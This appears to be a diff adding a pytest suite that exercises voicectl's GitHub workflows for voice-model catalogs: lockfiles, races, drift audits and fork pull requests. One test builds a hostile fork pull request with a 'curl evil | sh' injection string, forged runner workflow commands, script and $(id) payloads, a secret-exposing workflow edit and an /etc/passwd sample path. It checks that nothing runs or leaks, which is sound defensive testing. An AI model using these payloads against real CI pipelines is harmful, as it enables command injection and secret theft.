@@ -1,0 +1,389 @@
+"""The whole loop, played: a repository at a hosting, workflows on machines, the emulator as the account."""
+
+from __future__ import annotations
+
+import json
+import threading
+from dataclasses import replace
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.conftest import KEY
+from tests.hosting.conftest import Team, passed
+from tests.hosting.github_service import git
+from tests.hosting.runner import Event, Job, Kill
+from voicectl.emulator.settings import Rule
+
+BOTH = {"staging", "production"}
+
+
+def account(team: Team, **settings: Any) -> None:
+    """How the account behaves from now on."""
+    team.hand.emulator.settings = replace(team.hand.emulator.settings, **settings)
+
+
+def by_environment(jobs: list[Job]) -> dict[str, Job]:
+    return {job.name.split("(")[1].rstrip(")"): job for job in jobs}
+
+
+def test_a_pull_request_from_its_opening_to_the_lockfile_on_main(team: Team) -> None:
+    team.runner.narrowed = {}
+    team.change("warmer", team.edited("voices/narration.yaml", "Warm, mid-paced", "Warmer, slow"))
+    number = team.service.open_pull("warmer")
+    jobs = by_environment(passed(team.plan(number)))
+    assert jobs.keys() == BOTH
+    assert "3 to create" in jobs["staging"].summary
+    comments = team.service.of_pull(number)
+    assert sorted("production" in comment["body"].split("\n")[0] for comment in comments) == [False, True]
+    assert all("Warmer, slow" in comment["body"] for comment in comments)
+
+    team.change(
+        "warmer", {"voices/narration.yaml": team.file("voices/narration.yaml", "warmer").replace("slow", "calm")}
+    )
+    passed(team.plan(number))
+    again = team.service.of_pull(number)
+    assert [comment["id"] for comment in again] == [comment["id"] for comment in comments]
+    assert all(comment["edits"] == 1 and "Warmer, calm" in comment["body"] for comment in again)
+
+    jobs = by_environment(passed(team.apply(team.merge(number))))
+    assert jobs.keys() == BOTH
+    assert team.ids("staging").keys() == team.ids().keys() == {"accueil", "gatekeeper", "narrator"}
+    assert set(team.ids("staging").values()) | set(team.ids().values()) == {m["_id"] for m in team.hand.models()}
+    assert "Applied" in jobs["production"].summary
+    assert all(model_id in jobs["production"].summary for model_id in team.ids().values())
+
+    # The push of the lockfile, even by a token that may set workflows off, sets nothing off.
+    assert list(team.runner.workflows(team.pushed())) == []
+    # A second run finds nothing to do, and says nothing twice.
+    tip = team.service.tip()
+    passed(team.apply(Event("workflow_dispatch", "refs/heads/main", tip or "")))
+    assert team.service.tip() == tip
+    assert len(team.hand.models()) == 6
+
+
+def test_only_the_steps_that_need_the_key_or_the_token_have_it(team: Team) -> None:
+    apply = by_environment(passed(team.apply()))["production"]
+    assert apply.keys_seen == {"Apply": True, "Bring the lockfile into Git": False, "Summary": False}
+    assert apply.tokens_seen == {"Apply": False, "Bring the lockfile into Git": True, "Summary": False}
+    team.change("x", team.edited("voices/ivr.yaml", "français.", "français et breton."))
+    plan = passed(team.plan(team.service.open_pull("x")))[0]
+    assert not any(plan.keys_seen.values())
+    drift = passed(team.night())[0]
+    assert drift.keys_seen == {"Audit": True, "Report": False}
+    assert drift.tokens_seen == {"Audit": False, "Report": True}
+    tokens = list(team.service.tokens)
+    for job in (apply, plan, drift):
+        assert KEY not in job.log + job.summary
+        assert not any(token in job.log + job.summary for token in tokens)
+
+
+def test_two_pull_requests_merged_within_a_second(team: Team) -> None:
+    passed(team.apply())
+    team.change("one", team.edited("voices/game.yaml", "A gruff guard", "A kind guard"))
+    team.change("two", team.edited("voices/narration.yaml", "Warm, mid-paced", "Cool, fast"))
+    first = team.merge(team.service.open_pull("one"))
+    second = team.merge(team.service.open_pull("two"))
+    # Both runs begin before either ends, as if nothing had serialised them.
+    results: list[list[Job]] = []
+    runs = [threading.Thread(target=lambda event=event: results.append(team.apply(event))) for event in (first, second)]
+    for run in runs:
+        run.start()
+    for run in runs:
+        run.join()
+    # A run that lost a race ends with "try again"; the lockfile has everything, and one more run settles the rest.
+    passed(team.apply())
+    descriptions = {model["title"]: model["description"] for model in team.hand.models()}
+    assert descriptions["Acme Gatekeeper"].startswith("A kind guard")
+    assert descriptions["Acme Narrator"].startswith("Cool, fast")
+    assert len(team.hand.models()) == 3
+    assert len(results) == 2
+
+
+def test_of_two_new_voices_pushed_at_once_both_lockfiles_survive(team: Team) -> None:
+    """Two runs apply different commits; the second push finds the first one's lockfile and merges it."""
+    passed(team.apply())
+    before = team.pushed()
+    team.change("more", {"voices/more.yaml": team.file("voices/game.yaml").replace("gatekeeper:", "guard:").replace(
+        "Acme Gatekeeper", "Acme Guard")})  # fmt: skip
+    team.merge(team.service.open_pull("more"))
+    clone = team.clone("slow-machine")
+    git(clone, "checkout", "-q", "--detach", before.sha)
+    passed(team.apply())
+    assert "guard" in team.ids()
+    # The slow machine renames nothing in Git, but its lockfile differs: a value that it recorded.
+    path = clone / "voicectl.production.lock.json"
+    lock = json.loads(path.read_text(encoding="utf-8"))
+    lock["voices"]["narrator"]["applied"]["description"] = "recorded by the slow machine"
+    path.write_text(json.dumps(lock, indent=2, sort_keys=True, ensure_ascii=False) + "\n", encoding="utf-8")
+    from tests.conftest import Project
+
+    slow = Project(clone, {"VOICECTL_ENV": "production"})
+    assert "merged" in slow.spawn("ci", "push-lockfile", "--into", "main").expect(0).err
+    assert "guard" in team.ids()
+    assert team.lock()["voices"]["narrator"]["applied"]["description"] == "recorded by the slow machine"
+
+
+def test_a_machine_that_dies_between_apply_and_push_costs_nothing(team: Team) -> None:
+    jobs = team.apply(kill=Kill(before="Bring the lockfile"))
+    assert jobs[0].died
+    made = {model["_id"] for model in team.hand.models()}
+    assert len(made) == 3
+    assert team.ids() == {}
+    passed(team.apply())
+    assert set(team.ids().values()) == made
+    assert len(team.hand.models()) == 3
+
+
+def test_a_cancelled_apply_still_brings_its_lockfile_in(team: Team) -> None:
+    team.runner.narrowed = {}
+    account(team, training_seconds=30)
+    jobs = team.apply(kill=Kill(signal_in="Apply", after=3.0))
+    assert jobs[0].failed
+    assert "exit 130" in jobs[0].log
+    assert jobs[0].steps[-2:] == ["Bring the lockfile into Git", "Summary"]
+    recorded = set(team.ids("staging").values())
+    assert recorded
+    assert recorded <= {model["_id"] for model in team.hand.models()}
+    assert jobs[1].skipped  # production waits until staging is well
+
+
+def test_an_apply_that_fails_or_is_refused_still_brings_its_lockfile_in(team: Team) -> None:
+    account(team, fail_training=("Acme Narrator*",))
+    jobs = team.apply()
+    assert jobs[0].failed
+    assert "exit 1" in jobs[0].log
+    assert {"gatekeeper", "accueil"} <= team.ids().keys()
+    assert "narrator" in jobs[0].summary
+
+
+@pytest.mark.parametrize("way", ["pull-request", "branch"])
+def test_a_protected_main(team: Team, way: str) -> None:
+    team.service.protect_main()
+    failed = team.apply()[0]
+    assert failed.failed
+    assert "pull-request or branch" in failed.log
+    assert len(team.hand.models()) == 3
+
+    team.runner.settings.variables["VOICECTL_LOCKFILE"] = way
+    main = team.service.tip()
+    passed(team.apply())
+    assert team.service.tip() == main
+    assert len(team.hand.models()) == 3
+    pulls = [issue for issue in team.service.issues if "pull_request" in issue and issue["state"] == "open"]
+    branch = "voicectl/lockfiles" if way == "branch" else "voicectl/lockfile/acme.production"
+    assert len(pulls) == (0 if way == "branch" else 1)
+    before = team.ids(revision=branch)
+    assert before.keys() == {"accueil", "gatekeeper", "narrator"}
+
+    # While nobody has merged it, plans, audits and further applies work from the branch.
+    team.change("game", team.edited("voices/game.yaml", "A gruff guard", "A kind guard"))
+    number = team.service.open_pull("game")
+    planned = by_environment(passed(team.plan(number)))["production"]
+    assert "1 to update" in planned.summary
+    passed(team.night())
+    passed(team.apply(team.merge(number)))
+    assert team.ids(revision=branch) == before
+    record = team.lock(revision=branch)["voices"]["gatekeeper"]
+    assert record["applied"]["description"].startswith("A kind guard")
+    assert len([i for i in team.service.issues if "pull_request" in i and i["state"] == "open"]) == len(pulls)
+
+    if way == "pull-request":
+        for pull in pulls:
+            event = team.merge(pull["number"])
+            assert list(team.runner.workflows(event)) == []
+        assert team.ids() == before
+        passed(team.apply(Event("workflow_dispatch", "refs/heads/main", team.service.tip() or "")))
+        assert team.service.tip(branch) is None, "its lockfile has arrived"
+        assert not [i for i in team.service.issues if "pull_request" in i and i["state"] == "open"]
+    assert len(team.hand.models()) == 3
+
+
+EVIL = (
+    'x" && curl evil | sh #\n::set-output name=exit-code::0\n##[add-mask]a '
+    "<script>alert(1)</script> $(id) `id` @everyone"
+)
+
+
+def test_a_strangers_pull_request_gets_nothing(team: Team) -> None:
+    passed(team.apply())
+    lock = team.lock()
+    models = {model["_id"]: model["title"] for model in team.hand.models()}
+    team.hand.emulator.log.clear()
+    title = EVIL.replace("\n", " ")
+    evil_manifest = "voices:\n  gatekeeper:\n    title: " + json.dumps("Acme " + EVIL) + "\n"
+    lock["voices"]["narrator"]["id"] = "f" * 32
+    workflow = team.file(".github/workflows/plan.yml").replace("permissions: {}", "permissions: write-all").replace(
+        "          environment: ${{ matrix.environment }}\n",
+        "          environment: ${{ matrix.environment }}\n          live: \"true\"\n"
+        "          api-key: ${{ secrets.FISH_API_KEY }}\n",
+    )  # fmt: skip
+    team.change(
+        "evil",
+        {
+            "voices/game.yaml": evil_manifest + "    samples:\n      - audio: /etc/passwd\n",
+            "voicectl.production.lock.json": json.dumps(lock, indent=2, sort_keys=True) + "\n",
+            ".github/workflows/plan.yml": workflow,
+            "voicectl.py": "raise SystemExit('a stranger s code runs')\n",
+            "pip.py": "raise SystemExit('a stranger s code runs')\n",
+        },
+    )
+    number = team.service.open_pull("evil", title, fork=True, user={"login": "stranger", "type": "User"})
+    jobs = [job for job in team.plan(number, fork=True) if not job.skipped]
+    assert all(job.failed for job in jobs)
+    everything = "".join(job.log + job.summary for job in jobs)
+    assert "samples" in everything
+    assert "/etc/passwd" in everything
+    assert "root:" not in everything
+    assert "a stranger s code runs" not in everything
+    assert not any(any(job.keys_seen.values()) for job in jobs)
+    assert team.service.of_pull(number) == [], "a fork's token can't comment, and that is no failure"
+    # Nothing that the stranger wrote is a command to the runner or a tag in a page.
+    for job in jobs:
+        for line in job.log.splitlines():
+            assert not line.lstrip().startswith(("::set-output", "::add-mask"))
+            assert "##[add-mask]" not in line
+
+    # The sample put right, the title and the lockfile still as the stranger wants them.
+    fixed = evil_manifest + "    samples:\n      - audio: ../samples/gatekeeper-1.opus\n"
+    team.change(
+        "evil", {"voices/game.yaml": fixed, ".github/workflows/plan.yml": team.file(".github/workflows/plan.yml")}
+    )
+    (production,) = [job for job in team.plan(number, fork=True) if not job.skipped]
+    assert "This changes the lockfile" in production.summary
+    assert f"narrator: {team.ids()['narrator']} becomes {'f' * 32}" in production.summary
+    assert any("lockfile" in line for line in production.annotations("warning"))
+    assert "<script>" not in production.summary.replace("`", "") or "```" in production.summary
+    # Nothing was asked of the account with anything but GET, and nothing of it changed.
+    assert team.hand.mutating() == []
+    assert {model["_id"]: model["title"] for model in team.hand.models()} == models
+
+
+def test_a_lockfile_edit_by_a_colleague_can_be_forbidden(team: Team) -> None:
+    passed(team.apply())
+    workflow = team.file(".github/workflows/plan.yml").replace(
+        "          environment: ${{ matrix.environment }}\n",
+        "          environment: ${{ matrix.environment }}\n          lockfile-edits: fail\n",
+    )
+    team.service.merge(team.service.open_pull(_pushed(team, "strict", {".github/workflows/plan.yml": workflow})))
+    lock = team.lock()
+    lock["voices"]["narrator"]["protect"] = False
+    text = json.dumps(lock, indent=2, sort_keys=True, ensure_ascii=False) + "\n"
+    number = team.service.open_pull(_pushed(team, "sly", {"voicectl.production.lock.json": text}))
+    jobs = by_environment([job for job in team.plan(number) if not job.skipped])
+    assert jobs["production"].failed
+    assert "narrator: protect changed" in jobs["production"].summary
+    assert len(team.service.of_pull(number)) == 1
+
+
+def _pushed(team: Team, branch: str, files: dict[str, str | None]) -> str:
+    team.change(branch, files)
+    return branch
+
+
+def test_a_night_watch_opens_updates_and_closes_its_issue(team: Team) -> None:
+    passed(team.apply())
+    passed(team.night())
+    assert team.service.issues == []
+    narrator, gatekeeper = team.ids()["narrator"], team.ids()["gatekeeper"]
+
+    team.hand.patch(narrator, title="Somebody's Narrator")
+    jobs = by_environment(team.night())
+    assert jobs["production"].failed
+    (issue,) = team.service.issues
+    assert issue["title"] == "voicectl: drift in acme.production"
+    assert "Somebody's Narrator" in issue["body"]
+    assert team.service.sarif[-1]["document"]["version"] == "2.1.0"
+
+    team.hand.patch(gatekeeper, description="Changed, too.")
+    team.night()
+    (issue,) = team.service.issues
+    assert "Changed, too." in issue["body"]
+    assert issue["edits"] == 1
+
+    account(team, rules=(Rule("status", status=500, method=("GET",), path="/model*"),))
+    assert by_environment(team.night())["production"].failed
+    assert issue["state"] == "open", "an audit that failed says nothing about drift"
+    account(team, rules=())
+
+    team.hand.patch(narrator, title="Acme Narrator")
+    team.hand.patch(gatekeeper, description="A gruff guard for the second act.")
+    passed(team.night())
+    (issue,) = team.service.issues
+    assert issue["state"] == "closed"
+    assert any("no drift" in comment["body"] for comment in team.service.comments)
+
+    team.hand.patch(narrator, title="Again")
+    team.night()
+    assert [issue["state"] for issue in team.service.issues] == ["closed", "open"]
+
+
+def test_a_comment_whose_answer_was_lost_is_not_doubled(team: Team) -> None:
+    team.change("x", team.edited("voices/ivr.yaml", "français.", "français et breton."))
+    number = team.service.open_pull("x")
+    team.service.faults.lose_posts = 1
+    passed(team.plan(number))
+    assert len(team.service.of_pull(number)) == 1
+    stranger = {"id": 1, "issue": number, "body": team.service.of_pull(number)[0]["body"],
+                "user": {"login": "stranger", "type": "User"}, "edits": 0, "html_url": "x"}  # fmt: skip
+    team.service.comments.insert(0, stranger)
+    passed(team.plan(number))
+    assert stranger["edits"] == 0, "a stranger's copy of our marker is left alone"
+    assert len(team.service.of_pull(number)) == 2
+
+
+def test_an_old_run_started_again_applies_the_newest_main(team: Team) -> None:
+    first = Event("workflow_dispatch", "refs/heads/main", team.service.tip() or "")
+    passed(team.apply(first))
+    team.change("x", team.edited("voices/game.yaml", "A gruff guard", "A kind guard"))
+    passed(team.apply(team.merge(team.service.open_pull("x"))))
+    passed(team.apply(first))
+    assert {m["description"] for m in team.hand.models() if "Gatekeeper" in m["title"]} == {
+        "A kind guard for the second act."
+    }
+
+
+def test_thirty_catalogs_in_one_account(team: Team, tmp_path: Path) -> None:
+    """A matrix of directories, one after the other: thirty namespaces, none touches another's voices."""
+    names = [f"team-{number:02}" for number in range(30)]
+    files: dict[str, str | None] = {}
+    for name in names:
+        files[f"{name}/voicectl.yaml"] = f"catalog: {name}\n"
+        files[f"{name}/voices/voice.yaml"] = (
+            f"voices:\n  host:\n    title: {name} host\n    samples: [{{audio: ../samples/voice.txt.wav}}]\n"
+        )
+    for workflow in ("plan", "apply", "drift"):
+        text = team.file(f".github/workflows/{workflow}.yml")
+        text = text.replace("environment: [staging, production]", f"directory: [{', '.join(names)}]")
+        text = text.replace("environment: ${{ matrix.environment }}", "working-directory: ${{ matrix.directory }}")
+        files[f".github/workflows/{workflow}.yml"] = text
+    files["voicectl.yaml"] = None
+    from tests.conftest import Project
+
+    clone = team.clone()
+    for name in names:
+        (clone / name / "samples").mkdir(parents=True)
+        Project(clone / name).sample("voice.txt.wav", name)
+    team.change("thirty", files)
+    number = team.service.open_pull("thirty")
+    team.runner.narrowed = {"directory": names[:8]}
+    passed(team.plan(number))
+    comments = team.service.of_pull(number)
+    assert len(comments) == len({comment["body"].split("\n")[0] for comment in comments}) == 8
+    team.runner.narrowed = {}
+    jobs = passed(team.apply(team.merge(number)))
+    assert len(jobs) == 30
+    assert team.titles() == [f"{name} host" for name in names]
+    locks = [json.loads(team.file(f"{name}/voicectl.lock.json")) for name in names]
+    assert {lock["voices"]["host"]["id"] for lock in locks} == {model["_id"] for model in team.hand.models()}
+
+    # A pull request that touches one catalog comments for that one alone.
+    team.change(
+        "one", {"team-07/voices/voice.yaml": str(files["team-07/voices/voice.yaml"]).replace("team-07 h", "The H")}
+    )
+    number = team.service.open_pull("one")
+    team.runner.narrowed = {"directory": ["team-06", "team-07", "team-08"]}
+    passed(team.plan(number))
+    (comment,) = team.service.of_pull(number)
+    assert "team-07" in comment["body"]
